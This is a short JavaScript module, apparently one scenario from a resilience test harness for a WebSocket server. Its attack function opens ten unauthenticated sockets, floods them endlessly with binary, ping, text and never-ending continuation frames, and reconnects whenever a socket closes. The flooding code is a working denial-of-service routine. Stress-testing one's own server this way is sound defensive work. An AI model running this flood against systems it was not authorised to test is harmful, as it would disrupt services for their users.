// Sockets without a token that send as many frames as the connection takes, none of which asks for anything; and messages
// that never end.

import { BINARY, CONTINUATION, PING, TEXT, frame, openSocket } from './connection.mjs';

const SOCKETS = 10;
const AT_ONCE = 500;

export const title = 'floods of frames';
const MANY = [frame(BINARY, 'x'), frame(PING, ''), frame(TEXT, '{"type":"x"}'), frame(TEXT, '{"type":"unsubscribe_lobby"}')];
const PART = frame(CONTINUATION, '', false);
// What begins a flood, and what it is made of.
const FLOODS = [...MANY.map((one) => [one, one]), [frame(TEXT, '', false), PART]]
  .map(([first, one]) => [first, Buffer.concat(Array(AT_ONCE).fill(one))]);

export async function attack(where) {
  await Promise.all(Array.from({ length: SOCKETS }, (_, each) => flood(where, FLOODS[each % FLOODS.length])));
}

async function flood(where, [first, frames]) {
  for (;;) {
    const socket = await openSocket(where);
    if (!socket) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      continue;
    }
    const closed = new Promise((resolve) => socket.once('close', resolve));
    socket.write(first);
    while (!socket.destroyed) {
      if (socket.write(frames)) await new Promise(setImmediate);
      else await Promise.race([closed, new Promise((resolve) => socket.once('drain', resolve))]);
    }
  }
}
